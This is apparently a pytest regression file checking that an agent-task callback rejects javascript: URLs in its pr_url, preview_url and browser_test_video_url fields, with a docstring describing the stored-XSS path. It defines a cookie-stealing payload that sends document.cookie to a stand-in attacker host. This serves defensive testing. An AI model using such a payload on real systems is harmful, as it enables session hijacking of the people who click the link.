"""The runner's proof of work (pr_url, preview_url, browser_test_video_url) is shown to staff as links on the agent
task; the callback stored any text there. The runner is whoever holds the project's runner secret, and anyone
with projects:update on a project (an employee who owns or belongs to it) can set that secret with a PUT of the
agent configuration: an employee could put `javascript:...` behind the "pull request" link an executive opens
to review the build. The link fields take http and https URLs only, as production_url and runner_url do."""
from __future__ import annotations

import pytest

from chalicelib.providers.runner import sandbox as runner_sandbox
from tests.areas.agents.factories import make_agent_task
from tests.areas.projects.factories import make_project

OWN_SECRET = "an-employee-chosen-secret-0001"
PAYLOAD = "javascript:fetch('https://attacker.test/?c='+document.cookie)"


@pytest.mark.parametrize("field", ["pr_url", "preview_url", "browser_test_video_url"])
def test_a_script_link_from_the_runner_callback_is_refused(api, db, employee, exec_user, field):
    project = make_project(db, owner_id=employee.id, members=[employee])
    saved = api.put(f"/api/projects/{project.id}/agent-config", as_=employee,
                    json={"runner_url": "https://runner.attacker.test/runs", "enabled": True,
                          "runner_secret": OWN_SECRET})
    assert saved.status == 200, saved
    task, _agent = make_agent_task(db, project=project, owner=employee)
    run = api.post(f"/api/agent-tasks/{task.id}/dispatch", as_=employee)
    assert run.status == 200, run
    headers, body = runner_sandbox.callback_for(db, run.json["run"]["id"], status="running",
                                                result={field: PAYLOAD})
    assert headers["Authorization"] == f"Bearer {OWN_SECRET}"

    answer = api.post("/api/webhooks/agent-callback", json=body, headers=headers)
    assert answer.status == 400, answer
    assert f"result.{field}" in [detail["field"] for detail in answer.json["details"]]
    detail = api.get(f"/api/agent-tasks/{task.id}", as_=exec_user)
    assert PAYLOAD not in detail.body.decode()


def test_http_links_and_empty_values_are_still_taken(api, db, employee):
    project = make_project(db, owner_id=employee.id, members=[employee])
    api.put(f"/api/projects/{project.id}/agent-config", as_=employee,
            json={"runner_url": "https://runner.agency.test/runs", "enabled": True, "runner_secret": OWN_SECRET})
    task, _agent = make_agent_task(db, project=project, owner=employee)
    run_id = api.post(f"/api/agent-tasks/{task.id}/dispatch", as_=employee).json["run"]["id"]
    headers, body = runner_sandbox.callback_for(db, run_id, status="running", result={
        "pr_url": "https://github.com/agency/site/pull/7", "preview_url": "http://pr-7.preview.agency.test/",
        "browser_test_video_url": ""})
    answer = api.post("/api/webhooks/agent-callback", json=body, headers=headers)
    assert answer.status == 200, answer
    agent = api.get(f"/api/agent-tasks/{task.id}", as_=employee).json["agent"]
    assert agent["pr_url"] == "https://github.com/agency/site/pull/7"
    assert agent["preview_url"] == "http://pr-7.preview.agency.test/"
